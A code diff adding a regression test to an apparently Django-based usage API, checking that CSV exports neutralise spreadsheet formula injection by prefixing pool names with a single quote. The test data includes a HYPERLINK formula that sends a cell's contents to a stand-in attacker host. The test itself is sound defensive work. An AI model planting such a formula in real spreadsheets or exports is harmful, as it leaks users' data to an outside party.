@@ -114,3 +114,25 @@ def test_errors_stay_json_when_csv_was_asked_for(as_alice):
     assert response.status_code == 400
     assert response["Content-Type"].startswith("application/json")
     assert response.json()["code"] == "end_before_start"
+
+
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A2,"Click")'
+
+
+@pytest.mark.parametrize("name", [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)", "\tlead", "\rlead"])
+def test_usage_csv_neutralises_cells_that_spreadsheets_run_as_formulas(
+    as_bob, finished, pool, name
+):
+    """Issue 11 item 9: a pool named `=HYPERLINK(…)` reached every lab's export as a formula."""
+    import csv as csv_module
+    import io
+
+    pool.name = name
+    pool.save(update_fields=["name"])
+    query = {"start": "2030-03-01T00:00:00Z", "end": "2030-04-01T00:00:00Z", "group_by": "pool"}
+    exported = as_bob.get("/api/v1/usage/", {**query, "format": "csv"})
+    assert exported.status_code == 200
+    (row,) = csv_module.DictReader(io.StringIO(exported.content.decode(), newline=""))
+    assert row["pool_name"] == "'" + name  # OWASP: a leading single quote makes it text
+    assert row["gpu_hours"] == "4.00" and row["pool"] == str(pool.pk)  # numbers stay numbers
+    assert as_bob.get("/api/v1/usage/", query).json()[0]["pool_name"] == name  # JSON unchanged
